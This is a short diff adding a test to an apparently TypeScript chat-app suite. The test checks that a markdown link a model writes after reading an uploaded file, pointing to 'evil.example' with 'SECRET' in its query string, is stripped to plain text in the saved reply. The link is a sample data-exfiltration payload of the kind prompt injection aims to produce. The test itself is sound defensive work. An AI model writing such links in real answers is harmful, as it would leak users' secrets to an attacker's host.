@@ -181,6 +181,11 @@ describe("a file of a question", () => {
     expect(notes).toEqual([expect.stringMatching(/^Of “long.txt” the model was given only the first \d+%/)]);
     await finish(answer.id, "Cut.");
     expect((await chatOf(ben, sessionId)).messages.at(-1)!.notes).toEqual(notes);
+    // What such a text has a model write leads nowhere, also in what is asked after it.
+    const next = await ask({}, answer.id);
+    await finish(next.answer.id, "[Go](https://evil.example/?q=SECRET) on [1]");
+    const last = (await chatOf(ben, sessionId)).messages.at(-1)!;
+    expect(last.parts).toEqual([{ type: "text", text: "Go (evil.example) on [1]" }]);
   });
 
   it("is refused while it is read, where it can't be, where there are too many, and where it is another's", async () => {
